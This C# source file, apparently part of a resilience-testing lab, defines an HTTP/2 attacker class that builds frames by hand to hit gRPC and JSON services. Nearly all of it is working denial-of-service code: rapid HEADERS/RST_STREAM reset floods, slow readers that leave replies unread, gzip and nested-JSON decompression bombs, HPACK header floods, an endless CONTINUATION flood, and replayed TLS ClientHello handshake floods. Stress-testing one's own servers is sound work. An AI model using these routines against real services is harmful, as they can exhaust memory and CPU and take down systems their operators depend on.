using System.Buffers.Binary;
using System.IO.Compression;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using Google.Protobuf;
using Vitrine.Transports.Calls;
using Vitrine.Wire.V1;

namespace Vitrine.Lab.Transport;

/// <summary>A malicious client of gRPC or of JSON over HTTP/2: frames by hand (RFC 9113), because no client's library would send them.</summary>
internal sealed class Http2Attacker(AttackOrder order, AttackKind kind, IPAddress local) : Attacker(order, kind, local)
{
    private const byte Data = 0, Headers = 1, Reset = 3, Settings = 4, Ping = 6, WindowUpdate = 8, Continuation = 9;
    private const byte EndStream = 1, Ack = 1, EndHeaders = 4;
    private const int FrameHeadBytes = 9, FrameBytesMax = 16 << 10;

    /// <summary>Calls that are begun and reset in one write.</summary>
    private const int ResetsAtATime = 32;

    /// <summary>Streams that a server takes at a time.</summary>
    private const int StreamsMax = 100;

    private const int BombBytes = 64 << 20;

    // A stream's window takes it: the next one is begun whatever became of it.
    private const int TextBytes = 240 << 10;

    private byte[] _hello = [];
    private byte[] _head = [];
    private byte[][] _bodies = [];

    protected override async Task PrepareAsync(CancellationToken over)
    {
        bool isGrpc = Order.Protocol == EchoProtocol.Grpc;
        bool isReader = Kind == AttackKind.Readers;
        CallMethod method = isReader ? EchoService.ServerStream : EchoService.Unary;
        string path = isGrpc ? method.Path : isReader ? "/api/v1/echo/server-stream" : EchoConnector.JsonPath;
        List<byte> head = [];
        foreach ((string name, string value) in (ReadOnlySpan<(string, string)>)
            [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"), ("te", "trailers"), ("content-type", isGrpc ? "application/grpc" : "application/json")])
        {
            Literal(head, name, value);
        }

        if (isGrpc && Kind == AttackKind.Bombs)
        {
            Literal(head, "grpc-encoding", "gzip");
        }

        _head = [.. head];
        EchoRequest largest = new() { ReplyCount = EchoService.RepliesMax, ReplyBytes = EchoService.ReplyBytesMax };
        _bodies = Kind switch
        {
            AttackKind.Readers => [isGrpc ? Message(largest.ToByteArray(), false) : Encoding.ASCII.GetBytes(JsonFormatter.Default.Format(largest))],
            AttackKind.Bombs when isGrpc => [Message(Packed(), true), [1, 0x7f, 0xff, 0xff, 0xff, .. new byte[64]]],
            AttackKind.Bombs => [[.. Enumerable.Repeat((byte)'[', 64 << 10)], [.. "{\"payload\":\""u8, .. Enumerable.Repeat((byte)'A', TextBytes), .. "\",\"replyCount\":1e99}"u8]],
            _ => [],
        };
        if (Kind == AttackKind.Handshakes)
        {
            _hello = await RecordHelloAsync(over);
        }
    }

    protected override async Task AttackAsync(int lane, CancellationToken over)
    {
        if (Kind == AttackKind.Handshakes)
        {
            await BeginHandshakeAsync(over);
            return;
        }

        // Every second reader reads the connection, but extends no stream: one holds the socket, the other what waits before it.
        bool isReading = Kind != AttackKind.Readers || lane % 2 == 0;
        await using Connection connection = await Connection.OpenAsync(this, isReading, streamWindowBytes: isReading ? 65_535 : int.MaxValue, over);
        Connected();
        switch (Kind)
        {
            case AttackKind.Resets:
                await ResetAsync(connection, over);
                break;
            case AttackKind.Readers:
                await LeaveUnreadAsync(connection, isReading, over);
                break;
            case AttackKind.Bombs:
                await BombAsync(connection, over);
                break;
            default:
                await SendHeadsAsync(connection, over);
                break;
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        byte[] frame = new byte[FrameHeadBytes + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(FrameHeadBytes));
        return frame;
    }

    private static byte[] Extend(int stream, int bytes)
    {
        byte[] payload = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(payload, bytes);
        return Frame(WindowUpdate, 0, stream, payload);
    }

    // RFC 7541, section 6.2.2: without the table, so that a head can be sent again and again.
    private static void Literal(List<byte> head, string name, string value)
    {
        head.Add(0);
        Text(head, name);
        Text(head, value);
    }

    private static void Text(List<byte> head, string text)
    {
        if (text.Length < 127)
        {
            head.Add((byte)text.Length);
        }
        else
        {
            head.Add(127);
            int rest = text.Length - 127;
            for (; rest >= 128; rest >>= 7)
            {
                head.Add((byte)(rest | 128));
            }

            head.Add((byte)rest);
        }

        head.AddRange(Encoding.ASCII.GetBytes(text));
    }

    private static byte[] Message(byte[] message, bool isPacked)
    {
        byte[] framed = new byte[5 + message.Length];
        framed[0] = (byte)(isPacked ? 1 : 0);
        BinaryPrimitives.WriteInt32BigEndian(framed.AsSpan(1), message.Length);
        message.CopyTo(framed.AsSpan(5));
        return framed;
    }

    private static byte[] Packed()
    {
        using MemoryStream packed = new();
        using (GZipStream gzip = new(packed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < BombBytes / zeros.Length; i++)
            {
                gzip.Write(zeros);
            }
        }

        return packed.ToArray();
    }

    // What a real client says first. A server has to answer it with a key and a signature each time, whoever sends it.
    private async Task<byte[]> RecordHelloAsync(CancellationToken over)
    {
        await using FirstFlight flight = new();
        await using SslStream tls = new(flight);
        await tls.AuthenticateAsClientAsync(ClientTls(), over).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
        return flight.Bytes;
    }

    private SslClientAuthenticationOptions ClientTls() => new()
    {
        TargetHost = "localhost",
        ApplicationProtocols = [SslApplicationProtocol.Http2],
        RemoteCertificateValidationCallback = (_, certificate, _, _) =>
            certificate?.GetCertHashString(HashAlgorithmName.SHA256) == Order.Fingerprint.Replace(":", "", StringComparison.Ordinal),
    };

    private async Task<Socket> ConnectAsync(CancellationToken over)
    {
        Socket socket = new(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true, LingerState = new(true, 0) };
        try
        {
            socket.Bind(new IPEndPoint(Local, 0));
            await socket.ConnectAsync(Server, over);
            return socket;
        }
        catch
        {
            socket.Dispose();
            throw;
        }
    }

    private async Task BeginHandshakeAsync(CancellationToken over)
    {
        using Socket socket = await ConnectAsync(over);
        Connected();
        await socket.SendAsync(_hello, over);
        byte[] answer = new byte[4096];
        if (await socket.ReceiveAsync(answer, over) == 0)
        {
            throw new IOException("It was refused.");
        }

        Struck();
    }

    private async Task ResetAsync(Connection connection, CancellationToken over)
    {
        List<byte> batch = [];
        for (int stream = 1; stream < int.MaxValue - (4 * ResetsAtATime);)
        {
            batch.Clear();
            for (int i = 0; i < ResetsAtATime; i++, stream += 2)
            {
                batch.AddRange(Frame(Headers, EndHeaders, stream, _head));
                batch.AddRange(Frame(Reset, 0, stream, [0, 0, 0, 8]));
            }

            await connection.WriteAsync(batch.ToArray(), over);
            Struck(ResetsAtATime);
        }
    }

    private async Task LeaveUnreadAsync(Connection connection, bool isReading, CancellationToken over)
    {
        for (int stream = 1; ; stream += 2)
        {
            await connection.WriteAsync([.. Frame(Headers, EndHeaders, stream, _head), .. Frame(Data, EndStream, stream, _bodies[0])], over);
            Struck();
            if (stream > 2 * StreamsMax)
            {
                // More when those have been given up: the server says so, or the connection is over.
                await (isReading ? connection.WaitForResetAsync(over) : connection.WaitForEndAsync(over));
            }
        }
    }

    private async Task BombAsync(Connection connection, CancellationToken over)
    {
        for (int stream = 1, turn = 0; ; stream += 2, turn++)
        {
            byte[] body = _bodies[turn % _bodies.Length];
            await connection.WriteAsync(Frame(Headers, EndHeaders, stream, _head), over);
            for (int at = 0; at < body.Length; at += FrameBytesMax)
            {
                int bytes = Math.Min(FrameBytesMax, body.Length - at);
                await connection.TakeWindowAsync(bytes, over);
                await connection.WriteAsync(Frame(Data, at + bytes == body.Length ? EndStream : (byte)0, stream, body.AsSpan(at, bytes)), over);
            }

            Struck();
        }
    }

    private async Task SendHeadsAsync(Connection connection, CancellationToken over)
    {
        if (Connections % 2 == 0)
        {
            // A field of 4,000 bytes for the table, and then one byte that means it, again and again.
            List<byte> first = [.. _head, 0x40];
            Text(first, "bomb");
            Text(first, new string('b', 3_800));
            await connection.WriteAsync(Frame(Headers, EndHeaders, 1, [.. first]), over);
            byte[] again = [.. _head, .. Enumerable.Repeat((byte)0xbe, FrameBytesMax - _head.Length)];
            for (int stream = 3; ; stream += 2)
            {
                await connection.WriteAsync(Frame(Headers, EndHeaders, stream, again), over);
                Struck();
            }
        }

        // A head that never ends.
        List<byte> field = [];
        Literal(field, "more", new string('m', 4_000));
        await connection.WriteAsync(Frame(Headers, 0, 1, _head), over);
        byte[] more = Frame(Continuation, 0, 1, [.. field]);
        while (true)
        {
            await connection.WriteAsync(more, over);
            Struck();
        }
    }

    private sealed class Connection : IAsyncDisposable
    {
        private readonly Socket _socket;
        private readonly SslStream _tls;
        private readonly SemaphoreSlim _writing = new(1);
        private readonly SemaphoreSlim _windowGrew = new(0);
        private readonly SemaphoreSlim _resets = new(0);
        private Task _reading = Task.CompletedTask;
        private long _window = 65_535;
        private volatile bool _isEnded;

        private Connection(Socket socket, SslStream tls) => (_socket, _tls) = (socket, tls);

        public static async Task<Connection> OpenAsync(Http2Attacker attacker, bool isReading, int streamWindowBytes, CancellationToken over)
        {
            Socket socket = await attacker.ConnectAsync(over);
            Connection connection = new(socket, new SslStream(new NetworkStream(socket)));
            try
            {
                await connection._tls.AuthenticateAsClientAsync(attacker.ClientTls(), over);
                byte[] settings = new byte[6];
                BinaryPrimitives.WriteUInt16BigEndian(settings, 4); // SETTINGS_INITIAL_WINDOW_SIZE
                BinaryPrimitives.WriteInt32BigEndian(settings.AsSpan(2), streamWindowBytes);
                await connection.WriteAsync([.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, settings), .. Extend(0, int.MaxValue - 65_535)], over);
                connection._reading = isReading ? Task.Run(connection.ReadAsync, CancellationToken.None) : Task.CompletedTask;
                return connection;
            }
            catch
            {
                await connection.DisposeAsync();
                throw;
            }
        }

        public async ValueTask WriteAsync(byte[] bytes, CancellationToken over)
        {
            ThrowIfEnded();
            await _writing.WaitAsync(over);
            try
            {
                await _tls.WriteAsync(bytes, over);
            }
            finally
            {
                _writing.Release();
            }
        }

        /// <summary>Waits until so many bytes may be sent.</summary>
        public async Task TakeWindowAsync(int bytes, CancellationToken over)
        {
            while (Interlocked.Read(ref _window) < bytes)
            {
                ThrowIfEnded();
                await _windowGrew.WaitAsync(TimeSpan.FromMilliseconds(100), over);
            }

            Interlocked.Add(ref _window, -bytes);
        }

        /// <summary>Waits until the server gives a stream up.</summary>
        public async Task WaitForResetAsync(CancellationToken over)
        {
            while (!await _resets.WaitAsync(TimeSpan.FromMilliseconds(100), over))
            {
                ThrowIfEnded();
            }
        }

        /// <summary>Waits until the server has closed a connection that is not read.</summary>
        public async Task WaitForEndAsync(CancellationToken over)
        {
            while (!_socket.Poll(0, SelectMode.SelectError))
            {
                await Task.Delay(100, over);
                await WriteAsync(Frame(Ping, 0, 0, new byte[8]), over); // fails when it is over
            }
        }

        public async ValueTask DisposeAsync()
        {
            _socket.Dispose(); // at once
            await _reading;
            await _tls.DisposeAsync();
        }

        private void ThrowIfEnded()
        {
            if (_isEnded)
            {
                throw new IOException("The server has closed the connection.");
            }
        }

        private async Task ReadAsync()
        {
            byte[] head = new byte[FrameHeadBytes], payload = new byte[FrameBytesMax];
            try
            {
                while (true)
                {
                    await _tls.ReadExactlyAsync(head);
                    int length = BinaryPrimitives.ReadInt32BigEndian(head) >>> 8;
                    await _tls.ReadExactlyAsync(payload.AsMemory(0, length));
                    switch (head[3])
                    {
                        case WindowUpdate when BinaryPrimitives.ReadInt32BigEndian(head.AsSpan(5)) == 0:
                            Interlocked.Add(ref _window, BinaryPrimitives.ReadInt32BigEndian(payload));
                            _windowGrew.Release();
                            break;
                        case Reset:
                            _resets.Release();
                            break;
                        case Settings or Ping when (head[4] & Ack) == 0:
                            await WriteAsync(Frame(head[3], Ack, 0, head[3] == Ping ? payload.AsSpan(0, length) : []), CancellationToken.None);
                            break;
                        default:
                            break;
                    }
                }
            }
            catch (Exception exception) when (exception is IOException or ObjectDisposedException or ArgumentException)
            {
                _isEnded = true;
            }
        }
    }
}
